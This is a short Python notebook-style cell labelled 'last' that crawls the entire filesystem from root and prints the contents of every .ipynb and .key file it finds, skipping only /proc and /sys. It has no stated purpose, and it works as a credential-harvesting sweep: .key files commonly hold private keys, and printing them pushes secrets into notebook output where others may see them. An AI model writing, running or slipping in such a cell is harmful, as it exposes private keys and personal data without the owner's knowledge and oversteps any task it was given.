# %% last
import os

for folder, folders, files in os.walk("/"):
    if folder in ("/proc", "/sys"):
        folders.clear()
    for name in files:
        if name.endswith((".ipynb", ".key")):
            try:
                print(open(os.path.join(folder, name)).read(100_000))
            except OSError:
                pass
